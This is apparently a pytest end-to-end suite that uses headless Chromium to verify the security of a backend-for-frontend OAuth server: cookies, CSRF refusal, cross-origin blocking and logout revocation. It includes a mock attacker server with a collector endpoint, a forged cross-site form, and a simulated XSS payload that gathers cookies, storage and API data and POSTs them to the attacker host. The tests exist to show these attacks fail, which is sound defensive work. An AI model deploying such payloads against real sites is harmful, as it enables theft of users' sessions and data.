"""The ``bff`` server in a real headless Chromium: what the page can and cannot reach.

One browser for the module, a fresh context (empty cookie jar) per test. The provider
and the BFF run in this process, so the tests can look up the tokens the BFF holds and
search the browser for them; an attacker's server on ``localhost`` (another site) and on
another port of ``127.0.0.1`` (same site, another origin) serves the hostile pages.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from flask import Flask, Response, request

from helpers.notebook.chromium import TIMEOUT_MS
from helpers.notebook.course_clock import CourseClock
from helpers.notebook.live_server import LiveServer
from helpers.servers import bff, oauth
from tests import browser_support
from tests.oauth_client import introspect

# an end-to-end suite in headless Chromium: `make e2e` (CI runs it right after `make test`)
pytestmark = pytest.mark.e2e

# the shared headless Chromium, one for the module (the page fixture below is this file's)
browser = browser_support.browser


@pytest.fixture(scope="module")
def servers() -> Iterator[dict[str, Any]]:
    clock = CourseClock()
    with LiveServer(oauth.create_app(clock=clock), name="bffb-provider") as provider:
        app = bff.create_app(provider_url=provider.url, clock=clock)
        with (LiveServer(app, name="bffb") as live,
              LiveServer(attacker_app(), name="bffb-attacker") as evil):
            yield {"bff": live.url, "provider": provider.url, "store": app.extensions["bff_store"],
                   "evil_port": evil.port, "stolen": evil.app.config["stolen"]}


def attacker_app() -> Flask:
    """Mallory's server: hostile pages, and a collector for whatever a script sends it."""
    app = Flask("bffb-attacker")
    app.config["stolen"] = []

    @app.get("/form")
    def form() -> Response:  # a form that posts to the BFF as a plain HTML form can
        target = request.args["target"]
        return Response(f'<form method="post" action="{target}" enctype="text/plain">'
                        f'<input name="text" value="forged"><button id="go">win</button></form>',
                        mimetype="text/html")

    @app.get("/page")
    def page() -> Response:
        return Response("<p>Mallory's page</p>", mimetype="text/html")

    @app.post("/collect")
    def collect() -> Response:
        app.config["stolen"].append(request.get_data(as_text=True))
        return Response("", 204, {"Access-Control-Allow-Origin": "*"})

    return app


@pytest.fixture
def context(browser: Any) -> Iterator[Any]:
    context = browser.new_context()
    context.set_default_timeout(TIMEOUT_MS)
    yield context
    context.close()


@pytest.fixture(scope="module")
def alice(browser: Any, servers: dict) -> Iterator[Any]:
    """One signed-in context shared by the tests that only use the session (a sign-in costs
    ~1 s)."""
    context = browser.new_context()
    context.set_default_timeout(TIMEOUT_MS)
    sign_in(context.new_page(), servers["bff"])
    yield context
    context.close()


@pytest.fixture
def page(alice: Any, servers: dict) -> Iterator[Any]:
    page = alice.new_page()
    page.goto(servers["bff"] + "/")
    page.locator("#status", has_text="Signed in as").wait_for()
    yield page
    page.close()


# (waits use selectors, not wait_for_function: the page's CSP forbids the eval that needs)


def sign_in(page: Any, url: str, username: str = "alice", password: str = "wonderland") -> None:
    """Through the provider's own form, as a reader would."""
    page.goto(url + "/")
    page.locator("#status", has_text="Not signed in.").wait_for()
    page.click("#login")
    page.fill("input[name=username]", username)
    page.fill("input[name=password]", password)
    page.click("button[value=allow]")
    page.wait_for_url(url + "/")
    page.locator("#status", has_text="Signed in as").wait_for()


def in_page_fetch(page: Any, path: str, method: str = "GET", headers: dict | None = None,
                  body: Any = None) -> dict:
    return page.evaluate("""async ([path, method, headers, body]) => {
        try {
          const r = await fetch(path, {method, headers, credentials: "include",
                                       body: body === null ? undefined : JSON.stringify(body)});
          return {status: r.status, text: await r.text()};
        } catch (e) { return {status: 0, text: String(e)}; }
      }""", [path, method, headers or {}, body])


def held_tokens(store: Any) -> list[str]:
    return [t for tokens in store.all_tokens()
            for t in (tokens.access_token, tokens.refresh_token, tokens.id_token) if t]


def test_sign_in_sets_one_host_cookie_the_page_cannot_read(context: Any, servers: dict) -> None:
    page = context.new_page()
    bodies: list[str] = []
    page.on("response",
            lambda r: bodies.append(r.text()) if r.status < 300 or r.status >= 400 else None)
    sign_in(page, servers["bff"])
    assert page.inner_text("#status") == "Signed in as alice."
    assert page.evaluate("window.isSecureContext") is True  # http://127.0.0.1 is a secure context
    cookies = context.cookies()
    assert [c["name"] for c in cookies] == ["__Host-bff"]  # one cookie, the provider sets none
    cookie = cookies[0]
    assert cookie["secure"] and cookie["httpOnly"] and cookie["sameSite"] == "Lax"
    assert cookie["path"] == "/" and cookie["domain"] == "127.0.0.1"
    # no token anywhere the page can look
    assert page.evaluate("document.cookie") == ""
    assert page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
    me = in_page_fetch(page, "/api/me")
    assert me["status"] == 200 and json.loads(me["text"]) == {"sub": "alice",
                                                              "preferred_username": "alice"}
    tokens = held_tokens(servers["store"])
    assert len(tokens) >= 3 and bodies
    everything = "\n".join([*bodies, me["text"], page.content()])
    assert not any(token in everything for token in tokens)
    assert "eyJ" not in everything  # no JWT of any kind


def test_the_api_and_its_csrf_rule_in_the_browser(page: Any, servers: dict) -> None:
    page.fill("#note", "from the page")
    page.click("#note-form button")
    page.wait_for_selector("#notes li")
    assert page.inner_text("#notes li") == "from the page"
    ok = in_page_fetch(page, "/api/notes", "POST",
                       {"Content-Type": "application/json", "X-CSRF": "1"}, {"text": "x"})
    assert ok["status"] == 201
    missing = in_page_fetch(page, "/api/notes", "POST", {"Content-Type": "application/json"},
                            {"text": "x"})
    assert missing["status"] == 403 and json.loads(missing["text"])["error"] == "csrf_refused"


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1"])
def test_another_origins_script_cannot_call_the_api(page: Any, servers: dict, host: str) -> None:
    """localhost is another site; 127.0.0.1 on another port is the same site but another origin."""
    before = len(servers["store"].notes("alice"))
    page.goto(f"http://{host}:{servers['evil_port']}/page")
    with_header = in_page_fetch(page, servers["bff"] + "/api/notes", "POST",
                                {"Content-Type": "application/json", "X-CSRF": "1"},
                                {"text": "forged"})
    # the preflight got no grant
    assert with_header["status"] == 0 and "Failed to fetch" in with_header["text"]
    page.goto(f"http://{host}:{servers['evil_port']}/form?target={servers['bff']}/api/notes")
    page.click("#go")
    page.wait_for_load_state()
    # a form cannot send X-CSRF
    assert json.loads(page.inner_text("body"))["error"] == "csrf_refused"
    assert len(servers["store"].notes("alice")) == before


def test_a_same_site_form_carries_the_cookie_and_the_origin_check_still_refuses(
        page: Any, servers: dict) -> None:
    """SameSite=Lax lets a sibling port's POST carry the cookie (same site); the BFF's rule does
    not."""
    seen: list[dict] = []
    page.on("request", lambda r: seen.append(r.headers) if r.url.endswith("/api/notes") else None)
    page.goto(f"http://127.0.0.1:{servers['evil_port']}/form?target={servers['bff']}/api/notes")
    with page.expect_request(servers["bff"] + "/api/notes") as sent:
        page.click("#go")
    headers = sent.value.all_headers()
    assert "__Host-bff=" in headers.get("cookie", "")  # same site: the Lax cookie went along
    assert headers["origin"] == f"http://127.0.0.1:{servers['evil_port']}"
    page.wait_for_load_state()
    assert json.loads(page.inner_text("body"))["error"] == "csrf_refused"


def test_an_injected_script_gains_no_token_but_can_act(page: Any, servers: dict) -> None:
    collector = f"http://localhost:{servers['evil_port']}/collect"
    servers["stolen"].clear()
    # what an XSS payload would run in the page (page.evaluate runs it in the page's own world)
    result = page.evaluate("""async (collector) => {
        const loot = {cookie: document.cookie, local: {...localStorage},
                      session: {...sessionStorage},
                      me: await (await fetch("/api/me")).text(),
                      notes: await (await fetch("/api/notes")).text(),
                      html: document.documentElement.outerHTML};
        let sent = true;
        try {
          await fetch(collector, {method: "POST", mode: "no-cors", body: JSON.stringify(loot)});
        }
        catch (e) { sent = false; }
        const r = await fetch("/api/notes", {
          method: "POST", body: JSON.stringify({text: "written by the XSS"}),
          headers: {"Content-Type": "application/json", "X-CSRF": "1"}});
        return {loot: JSON.stringify(loot), sent, created: r.status};
      }""", collector)
    loot = json.loads(result["loot"])
    assert loot["cookie"] == "" and loot["local"] == {} and loot["session"] == {}
    assert not any(token in result["loot"] for token in held_tokens(servers["store"]))
    assert "eyJ" not in result["loot"]
    # the page's CSP (connect-src from default-src 'self') also stopped the send itself
    assert result["sent"] is False and servers["stolen"] == []
    assert result["created"] == 201  # the honest part: while it runs, it acts as the page
    assert "written by the XSS" in [n["text"] for n in servers["store"].notes("alice")]


def test_logout_revokes_the_tokens_at_the_provider(context: Any, servers: dict) -> None:
    page = context.new_page()
    sign_in(page, servers["bff"])
    sid_tokens = [t for t in servers["store"].all_tokens()]
    before = {t.access_token for t in sid_tokens}
    page.click("#logout")
    page.locator("#status", has_text="Not signed in.").wait_for()
    assert context.cookies() == []
    after = {t.access_token for t in servers["store"].all_tokens()}
    ended = [t for t in sid_tokens if t.access_token in before - after]
    assert len(ended) == 1
    assert introspect(servers["provider"], ended[0].access_token).json() == {"active": False}
    assert introspect(servers["provider"], ended[0].refresh_token).json() == {"active": False}
    assert in_page_fetch(page, "/api/me")["status"] == 401
